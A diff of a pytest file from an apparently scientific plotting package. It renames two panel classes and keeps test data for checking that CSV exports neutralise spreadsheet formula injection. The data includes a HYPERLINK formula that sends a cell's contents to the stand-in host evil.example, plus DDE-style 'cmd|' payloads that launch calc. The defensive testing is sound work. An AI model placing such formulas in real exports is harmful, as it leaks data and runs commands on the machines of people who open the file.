@@ -9,17 +9,17 @@ import numpy as np
 import pytest
 
 from rnn_explorer.figures.base import Figure
-from rnn_explorer.figures.svg_panel import Drawing
+from rnn_explorer.figures.svg_panel import SvgPanel
 from rnn_explorer.figures.table import as_text, csv_text
-from rnn_explorer.figures.text_panel import Words
+from rnn_explorer.figures.text_panel import TextPanel
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 FORMULAS = [LINK, "@SUM(A1)", "+A1", "-B2+cmd|' /C calc'!A0", "\t=1", "\r=1", "=", "-2+3+cmd|'x'!A0", "--", "+"]
 TEXTS = ["a", "a=b", "", " b", "-20", "+1.5e3", "-1,234.5", "-12 %", "-inf", "É"]
 MAKERS = [
     lambda table: Figure("n", "t", "h", [], {}, table=table).to_csv(),
-    lambda table: Words("n", "t", "h", table=table).to_csv(),
-    lambda table: Drawing("n", "t", "h", "<svg/>", table=table).to_csv(),
+    lambda table: TextPanel("n", "t", "h", table=table).to_csv(),
+    lambda table: SvgPanel("n", "t", "h", "<svg/>", table=table).to_csv(),
     csv_text,
 ]
 
